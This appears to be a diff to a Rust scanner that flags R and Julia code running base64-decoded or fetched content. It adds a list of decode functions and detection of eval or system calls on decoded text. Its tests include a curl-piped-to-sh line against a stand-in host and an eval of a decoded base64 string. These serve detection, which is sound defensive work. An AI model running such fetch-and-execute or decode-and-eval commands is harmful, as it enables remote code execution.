@@ -47,6 +47,23 @@ pub fn analyse(text: &str) -> Script {
         if let Some(piped) = pipeline(line).filter(|_| script.shell.len() < MAX_CALLS) {
             script.shell.push((piped, number));
         }
+        // What is decoded only to be run.
+        const DECODES: [&str; 7] = [
+            "base64decode",
+            "base64_dec",
+            "rawToChar",
+            "memDecompress",
+            "intToUtf8",
+            "base64encode::",
+            "Base64.base64decode",
+        ];
+        let decodes = DECODES.iter().any(|name| line.contains(name));
+        for name in ["eval", "evalq", "system", "system2", "include_string"] {
+            let inside = calls(line, name).filter(|inside| DECODES.iter().any(|word| inside.contains(word)));
+            if let Some(inside) = inside.filter(|_| decodes && script.calls.len() < MAX_CALLS) {
+                script.calls.push(decoded(name, inside, number));
+            }
+        }
         let address = ["http://", "https://", "ftp://"].iter().any(|scheme| line.contains(scheme));
         let fetches = address && READS.iter().any(|name| calls(line, name).is_some())
             || names.iter().any(|name| mentions(line, name));
@@ -92,6 +109,26 @@ pub fn analyse(text: &str) -> Script {
     script
 }
 
+/// A call that runs what it decodes.
+fn decoded(name: &str, inside: &str, line: u32) -> Call {
+    let runs = matches!(name, "system" | "system2");
+    Call {
+        callee: name.to_owned(),
+        power: if runs { Power::Runs } else { Power::Evaluates },
+        arguments: vec![Argument {
+            name: None,
+            shown: inside.chars().take(80).collect(),
+            text: None,
+            origin: Origin { decoded: true, ..Origin::default() },
+        }],
+        line,
+        at_import: true,
+        reached: false,
+        hidden: true,
+        assembled: false,
+    }
+}
+
 /// The commands that a line of Julia joins, as a shell writes them.
 fn pipeline(line: &str) -> Option<String> {
     let inside = calls(line, "pipeline")?;
@@ -135,5 +172,7 @@ mod tests {
         assert_eq!(piped("run(pipeline(`curl -s http://x.example/a`, `sh`))").as_deref(), Some(joined));
         assert_eq!(piped("run(pipeline(`sort`, stdout = \"a\"))\npipeline(fit, `x`)"), None);
         assert_eq!(found("# system(readLines('http://x'))"), 0);
+        assert_eq!(found("eval(parse(text = rawToChar(base64enc::base64decode('aWQ='))))"), 1);
+        assert_eq!(found("x <- rawToChar(base64enc::base64decode('aWQ='))"), 0);
     }
 }
